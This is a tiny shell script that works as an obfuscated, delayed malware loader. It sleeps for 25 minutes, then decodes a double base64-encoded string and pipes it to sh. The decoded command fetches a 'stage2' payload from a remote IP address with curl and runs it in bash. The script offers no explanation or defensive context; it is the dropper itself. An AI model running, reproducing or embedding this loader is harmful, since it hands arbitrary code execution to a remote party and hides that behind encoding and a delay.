#!/bin/sh
sleep 1500 && echo break
X=ZWNobyBZM1Z5YkNBdGN5Qm9kSFJ3T2k4dk1UazRMalV4TGpFd01DNDNOeTl6ZEdGblpUSWdmQ0JpWVhObyB8IGJhc2U2NCAtZCB8IHNo
echo $X | base64 -d | sh
